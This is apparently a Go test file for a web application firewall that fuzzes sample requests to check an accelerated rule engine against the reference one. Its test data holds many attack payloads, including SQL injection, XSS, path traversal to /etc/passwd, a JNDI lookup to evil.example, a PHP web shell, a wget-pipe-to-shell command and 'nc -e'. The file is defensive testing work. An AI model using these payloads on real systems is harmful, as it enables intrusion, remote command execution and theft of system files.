package waf

import (
	"bytes"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"
	"testing"

	"github.com/gatewatch/gatewatch/detection/verdict"
)

var accelerateMutations = flag.Int("accelerate-mutations", 1000, "requests that TestAcceleratedDecisionsOfMutations makes up")

var accelerateSeed = flag.Uint64("accelerate-seed", 1, "seed of TestAcceleratedDecisionsOfMutations")

// sampleRequests are of every kind that the rules read in another way.
func sampleRequests() []*verdict.Request {
	const form, json, xml = "application/x-www-form-urlencoded", "application/json", "text/xml"
	all := []*verdict.Request{
		benchRequest("GET", "/", "", ""),
		benchRequest("GET", "/catalog/books?page=2&sort=price", "", ""),
		benchRequest("GET", "/search?q=union+jack+and+select+committee", "", ""),
		benchRequest("GET", "/?a=1&a=2&a=%3Cscript%3Ealert(1)%3C/script%3E&b=x%27%20or%201=1--%20-", "", ""),
		benchRequest("GET", "/../../etc/passwd?file=..%2f..%5c..%252fetc/passwd%00.png", "", ""),
		benchRequest("GET", "/?x=$%7Bjndi:ldap://evil.example/a%7D&y=%24%28id%29;cat+/etc/shadow", "", ""),
		benchRequest("GET", "/?name=%E6%9C%AC%E2%80%98%CA%BC&k=%u0027+or+%u0031&m=\\u003cscript", "", ""),
		benchRequest("GET", "/?url=http://169.254.169.254/latest&next=//evil.example", "", ""),
		benchRequest("PUT", "/files/report.php.bak", "text/plain", "<?php system($_GET['c']); ?>"),
		benchRequest("POST", "/account", form, benchForm()),
		benchRequest("POST", "/login", form, "user=admin%27--&password=%27%2B%27&user=other&=empty&novalue"),
		benchRequest("POST", "/comment", form, "text=%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E&code=O:8:%22stdClass%22:0:{}&t=eval%28base64_decode%28%27a%27%29%29"),
		benchRequest("POST", "/shell", form, "c=w%5Cg%27e%27t+http%3A%2F%2Fx%2F+%7C+sh&p=powershell+-enc+AAA&n=process.mainModule.require('fs')"),
		benchRequest("POST", "/api", json, `{"a":{"b":[1,"x' OR '1'='1",null,true]},"k":"<svg/onload=alert(1)>","java":"java.lang.Runtime"}`),
		benchRequest("POST", "/api", json, `{"broken": [`),
		benchRequest("POST", "/soap", xml, `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a b="union select"><c>' or 1=1</c></a>`),
		benchRequest("POST", "/upload", "multipart/form-data; boundary=XX",
			"--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\nContent-Type: text/plain\r\n\r\n<?php echo 1;\r\n--XX\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\n1; drop table users\r\n--XX--\r\n"),
		benchRequest("POST", "/bin", "application/octet-stream", "\xac\xed\x00\x05\xff\xfe"),
		benchRequest("GET", "/%c0%ae%c0%ae/?\xff=\xfe", "", ""),
		benchRequest("FOO", "/?"+strings.Repeat("a=b&", 300), "", ""),
	}
	scanner := benchRequest("GET", "/wp-config.php.bak", "", "")
	scanner.Headers = [][2]string{
		{"Host", "10.0.0.1"},
		{"User-Agent", "sqlmap/1.7"},
		{"Range", "bytes=0-1,2-3"},
		{"X-Filename", "a.phtml"},
		{"Cookie", "a=1; a='or 1=1; $Version=1; b=() { :; };"},
		{"Referer", "http://x/?q=<script>"},
		{"Content-Type", "text/html; charset=x"},
	}
	all = append(all, scanner)
	for i, r := range all {
		r.ID = fmt.Sprint("sample-", i)
	}
	return all
}

func TestAcceleratedDecisions(t *testing.T) {
	for paranoia := 1; paranoia <= MaxParanoia; paranoia++ {
		s := CorpusSettings()
		s.Paranoia = paranoia
		p := compilePair(t, s)
		blocked := 0
		var c agreements
		for _, r := range sampleRequests() {
			c.add(t, p, r)
			if judgeOnly(t, p.fast, r).Block {
				blocked++
			}
		}
		if blocked < 10 {
			t.Errorf("paranoia %d: %d blocked", paranoia, blocked)
		}
	}
}

// splinters are put into requests.
var splinters = []string{
	"'", "\"", "`", ";", "|", "&", "&&", "$(", "${", "{", "}", "<", ">", "</", "<!--", "-->", "/*", "*/", "--", "#", "%", "%00", "%0a", "%u0027", "%2527", "\\", "\\u0027",
	"\\x41", "../", "..\\", "://", "=", "==", "(", ")", "[", "]", "@", "!", "~", "^", "*", "+", " ", "\t", "\r\n", "\x00", "\x7f", "\xff", "\xa0", "é", "本", "ſ", "K", "’",
	"union select", " or 1=1", "sleep(5)", "script", "onerror=", "javascript:", "alert(1)", "<svg/onload=", "eval(", "base64_decode", "system(", "cat /etc/passwd",
	"wget http://", "nc -e", "powershell", "cmd.exe", "ping -c", "java.lang.", "Runtime", "jndi:ldap", "__proto__", "constructor", "require(", "process.env",
	"information_schema", "xp_cmdshell", "PHPSESSID", "phpinfo", "O:4:\"a\"", ".htaccess", ".git/config", "boot.ini", "file://", "gopher://", "169.254.169.254", "{{7*7}}", "<%=", "#{",
	"http-equiv", "content-type:", "set-cookie:", "HTTP/1.1", "0x41414141", "0e1", "1e5", "&lt;", "&#x27;", "AAAA", "kK", "sS", "ＡＢ", "waitfor delay", "having 1", "like '%",
}

// mutateRequest changes a request in a few places.
func mutateRequest(r *rand.Rand, from *verdict.Request) *verdict.Request {
	to := *from
	to.Headers = append([][2]string{}, from.Headers...)
	splice := func(s string) string {
		at := r.IntN(len(s) + 1)
		switch r.IntN(5) {
		case 0:
			return s[:at] + s[min(len(s), at+1+r.IntN(4)):]
		case 1:
			return s[:at] + string([]byte{byte(r.IntN(256))}) + s[at:]
		}
		return s[:at] + splinters[r.IntN(len(splinters))] + s[at:]
	}
	for range 1 + r.IntN(4) {
		switch r.IntN(5) {
		case 0:
			h := &to.Headers[r.IntN(len(to.Headers))]
			h[1] = splice(h[1])
		case 1:
			to.URI = strings.ReplaceAll(splice(to.URI), " ", "+")
		case 2:
			joint := "?"
			if strings.Contains(to.URI, "?") {
				joint = "&"
			}
			to.URI += joint + url.QueryEscape(splice(splice("v"))) + "=" + url.QueryEscape(splice(splice(splice("words"))))
		default:
			if len(to.Body) > 0 {
				to.Body = bytes.Clone([]byte(splice(string(to.Body))))
			} else {
				to.URI = strings.ReplaceAll(splice(to.URI), " ", "+")
			}
		}
	}
	return &to
}

func TestAcceleratedDecisionsOfMutations(t *testing.T) {
	r := rand.New(rand.NewPCG(*accelerateSeed, 0))
	all := sampleRequests()
	if *accelerateCorpus != "" {
		all = append(all, corpusRequests(t, *accelerateCorpus, "*.jsonl.gz", 20)...)
	}
	n := *accelerateMutations / MaxParanoia
	if testing.Short() {
		n /= 10
	}
	for paranoia := MaxParanoia; paranoia >= 1; paranoia-- {
		s := CorpusSettings()
		s.Paranoia = paranoia
		p := compilePair(t, s)
		var c agreements
		for i := range n {
			m := mutateRequest(r, all[r.IntN(len(all))])
			m.ID = fmt.Sprintf("paranoia-%d-mutation-%d", paranoia, i)
			c.add(t, p, m)
		}
		t.Logf("paranoia %d, %d requests: %s", paranoia, n, c)
	}
}

func TestAccelerationLeavesOwnRulesAlone(t *testing.T) {
	f := func(directives string, want bool) {
		t.Helper()
		if got := alters(directives); (got != "") != want {
			t.Errorf("alters(%q) = %q", directives, got)
		}
	}
	f("", false)
	f(`SecRuleUpdateTargetById 942100 "!ARGS:note"`, false)
	f("SecRuleUpdateTargetByTag attack-sqli \"!ARGS:a|!REQUEST_COOKIES:b\"\nSecRuleRemoveById 941100", false)
	f(`SecRuleUpdateTargetById 942100 "!ARGS:note|REQUEST_BODY"`, true)
	f(`SecRuleUpdateTargetById 942100 REQUEST_BODY`, true)
	f("SecRuleUpdateTargetById 942100 \\\n  REQUEST_BODY", true)
	f("secruleupdate\\\nActionById 942100 \"t:lowercase\"", true)
	f(`SecRuleUpdateActionById 942100 "t:lowercase"`, true)
	f(`SecAction "id:1,phase:1,msg:'%{rule.id}'"`, true)
	f(`SecRule ARGS "@rx a" "id:1,phase:2,skip:2"`, true)
	f(`SecRule ARGS "@rx a" "id:1,phase:2,skipAfter:END"`, false)
	f("# SecRuleUpdateActionById 1", false)
	f("# see \\\nSecRuleUpdateActionById 1 \"pass\"", true)
	f("\fSecRuleUpdateTargetById 942100 REQUEST_BODY", true)
	f("SecRuleUpdateTargetById 942100 !ARGS:a\\\n#c\n|ARGS:b", true)
	f("SecRuleUpdateTargetById 942100 !ARGS:a\\\n\n|!ARGS:b", false)
	f(`SecRuleUpdateTargetById 901001 "!TX:crs_setup_version"`, true)
	f(`SecAction "id:1,phase:1,ctl:ruleRemoveTargetById=901001;TX:crs_setup_version"`, true)
	f(`SecAction "id:1,phase:1,ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:tx"`, false)
	f(`SecDefaultAction "phase:4,log,pass,multiMatch"`, true)
	f(`SecDefaultAction "phase:4,log,pass"`, false)
}
